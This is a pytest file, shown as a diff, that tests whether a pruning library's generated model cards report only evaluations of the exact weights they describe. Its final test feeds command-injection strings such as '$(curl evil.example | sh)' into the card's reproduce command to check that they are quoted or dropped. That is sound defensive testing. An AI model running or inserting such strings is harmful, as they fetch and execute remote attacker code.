@@ -1,0 +1,168 @@
+"""Which evaluation is of which weights: a card tells no metric of another model, whatever lies in the folder."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+import torch
+from transformers import AutoModelForSequenceClassification
+
+from deeparc_hf import MPruneCallback, WandaCallback, create_model_card, prune_model, save_pruned, sparsify_model
+from deeparc_hf.fingerprint import mark_of_files, mark_of_model
+
+from ..publishing import trained
+from ..trainers import text_data, train
+from ..zoo import ZOO
+from .test_model_card import section
+
+NONE = "No evaluation that was noted is of the model as it is."
+
+
+def pruning(**settings):
+    return MPruneCallback(**{"num_blocks": 3, "retrain_epochs": 1, "calibration_samples": 32, **settings})
+
+
+def metrics_of(card):
+    return {result.metric_type: result.metric_value for result in card.data.eval_results or []}
+
+
+@pytest.mark.parametrize("name", ZOO)
+def test_the_mark_is_the_same_in_memory_and_in_the_files(name, tmp_path):
+    model = ZOO[name].model()
+    save_pruned(model, tmp_path)
+    mark = mark_of_model(model)
+    assert mark is not None and mark_of_files(tmp_path) == mark
+    with torch.no_grad():
+        next(parameter for parameter in model.parameters() if parameter.dim() > 1).view(-1)[0] += 1
+    assert mark_of_model(model) != mark
+
+
+def test_the_mark_of_shards_is_that_of_one_file(tmp_path):
+    model = ZOO["llama"].model()
+    model.save_pretrained(tmp_path, max_shard_size="20KB")
+    assert len(list(tmp_path.glob("*.safetensors"))) > 1
+    assert mark_of_files(tmp_path) == mark_of_model(model)
+    next(iter(sorted(tmp_path.glob("*.safetensors")))).unlink()
+    assert mark_of_files(tmp_path) is None and mark_of_files(tmp_path / "nothing") is None
+
+
+@pytest.fixture(scope="module")
+def done(tmp_path_factory):
+    """A pruned and evaluated run, saved in its folder."""
+    folder = tmp_path_factory.mktemp("done")
+    trainer = trained(folder, [pruning()], num_train_epochs=1, save_strategy="no")
+    found = trainer.evaluate()
+    trainer.save_model(str(folder))
+    return trainer, folder, found
+
+
+def test_the_evaluation_of_these_weights_is_told(done):
+    trainer, folder, found = done
+    assert metrics_of(create_model_card(trainer)) == {"loss": found["eval_loss"], "accuracy": found["eval_accuracy"]}
+    assert metrics_of(create_model_card(folder)) == metrics_of(create_model_card(trainer))
+    assert "on these weights" in section(create_model_card(folder), "Evaluation")
+
+
+def test_zeroing_after_the_evaluation(done):
+    model = AutoModelForSequenceClassification.from_pretrained(done[1])
+    ids = torch.randint(5, 100, (16, 10))
+    sparsify_model(model, [{"input_ids": ids, "attention_mask": torch.ones_like(ids)}], sparsity=0.5, progress=False)
+    card = create_model_card(model, reports=done[1])
+    assert metrics_of(card) == {} and section(card, "Evaluation") == NONE
+
+
+def test_more_training_without_the_callback_in_the_same_folder(done):
+    _, folder, _ = done
+    model = AutoModelForSequenceClassification.from_pretrained(folder)
+    trainer = train(model, folder, num_train_epochs=1)
+    card = create_model_card(trainer, folder / "other.md")
+    assert metrics_of(card) == {} and section(card, "Evaluation") == NONE
+    assert "In a Trainer" not in str(card)  # that run's report is of other weights
+    assert "with 1 of its 4 blocks" in str(card)
+
+
+def test_another_model_that_lost_the_same_blocks(done, tmp_path):
+    from deeparc_hf import PrunedConfig, remove_blocks
+
+    _, folder, _ = done
+    other = ZOO["bert"].model(seed=5)
+    remove_blocks(other, dict(PrunedConfig.from_pretrained(folder).removed))
+    card = create_model_card(other, reports=folder)
+    assert metrics_of(card) == {} and section(card, "Similarity of blocks") is None and "In a Trainer" not in str(card)
+
+
+def test_a_model_of_another_kind_in_the_folder_of_a_run_that_was_taken_back(tmp_path):
+    trained(tmp_path, [pruning(max_drop=0.0, baseline=2.0, metric="accuracy", k_max=1)], num_train_epochs=1, save_strategy="no")
+    card = create_model_card(ZOO["gpt2"].model(), reports=tmp_path)
+    assert section(card, "Iterations") is None and metrics_of(card) == {}
+
+
+def test_the_best_checkpoint_of_a_sparse_run(tmp_path):
+    trainer = trained(
+        tmp_path,
+        [WandaCallback(sparsity=0.3, calibration_samples=32)],
+        num_train_epochs=3,
+        learning_rate=0.05,
+        load_best_model_at_end=True,
+        metric_for_best_model="accuracy",
+        save_strategy="epoch",
+    )
+    told, truth = metrics_of(create_model_card(trainer)), trainer.evaluate()
+    assert told["accuracy"] == pytest.approx(truth["eval_accuracy"]) and told["loss"] == pytest.approx(truth["eval_loss"])
+
+
+def test_what_zeroing_did_is_not_put_down_to_the_pruning(tmp_path):
+    callbacks = [pruning(start_epoch=1), WandaCallback(sparsity=0.9, start_epoch=2, calibration_samples=32)]
+    trainer = trained(tmp_path, callbacks, num_train_epochs=2, save_strategy="no")
+    rows = [line.split("|")[1].strip() for line in section(create_model_card(trainer), "Iterations").splitlines() if line.startswith("| ")]
+    assert rows[2:] == ["before pruning", "pruning 1", "pruning 1, weights zeroed"]
+
+
+def test_several_data_sets_keep_their_rows_and_names(tmp_path):
+    trainer = trained(tmp_path, [pruning()], num_train_epochs=1, save_strategy="no")
+    trainer.eval_dataset = {"a": text_data(), "b": text_data(rows=40)}
+    trainer.evaluate()
+    trainer.evaluate(text_data(rows=24), metric_key_prefix="test")
+    card = create_model_card(trainer, dataset_tags="dair-ai/emotion")
+    counted = {
+        line.split("|")[1].strip(): line.split("|")[4].strip() for line in section(card, "Evaluation").splitlines() if line[:2] == "| "
+    }
+    assert counted["a_accuracy"] == "64" and counted["b_accuracy"] == "40" and counted["test_accuracy"] == "24"
+    assert {result.dataset_type for result in card.data.eval_results} == {"unknown"}  # one name for three sets is none
+
+
+def test_a_loss_that_overflowed_is_not_the_last_finite_one(tmp_path):
+    trainer = trained(tmp_path, [pruning()], num_train_epochs=1, save_strategy="no")
+    trainer.evaluate()
+    with torch.no_grad():
+        trainer.model.classifier.weight.fill_(float("nan"))
+    trainer.evaluate()
+    assert "loss" not in metrics_of(create_model_card(trainer))
+    trainer.save_model(str(tmp_path / "saved"))
+    assert "loss" not in metrics_of(create_model_card(tmp_path / "saved"))
+
+
+def test_many_evaluations_are_no_fault(done, tmp_path):
+    import shutil
+
+    _, folder, _ = done
+    shutil.copytree(folder, tmp_path / "many")
+    report = json.loads((tmp_path / "many" / "pruning_report.json").read_text())
+    report["attempts"][-1]["evaluations"] *= 400
+    (tmp_path / "many" / "pruning_report.json").write_text(json.dumps(report))
+    assert section(create_model_card(tmp_path / "many", tmp_path / "card.md"), "Iterations") is not None
+
+
+def test_commands_in_the_card_are_quoted():
+    model = ZOO["bert"].model()
+    ids = torch.randint(5, 100, (32, 10))
+    batches = [{"input_ids": part, "attention_mask": torch.ones_like(part)} for part in ids.split(8)]
+    prune_model(model, batches, num_blocks=3, protect=["*.0"], progress=False)
+    assert "deeparc prune MODEL --data TRAINING_DATA --protect '*.0' --num-blocks 3 -o pruned" in str(create_model_card(model))
+    settings = model.config.pruning_config["iterations"][-1]["settings"]
+    settings["protect"] = ["$(curl evil.example | sh)", "x\ncurl evil.example #"]
+    text = section(create_model_card(model), "How to reproduce it")
+    assert "'$(curl evil.example | sh)'" in text and "\ncurl" not in text
+    settings["similarity"] = "cka; curl evil.example | sh"
+    assert "deeparc prune" not in section(create_model_card(model), "How to reproduce it")
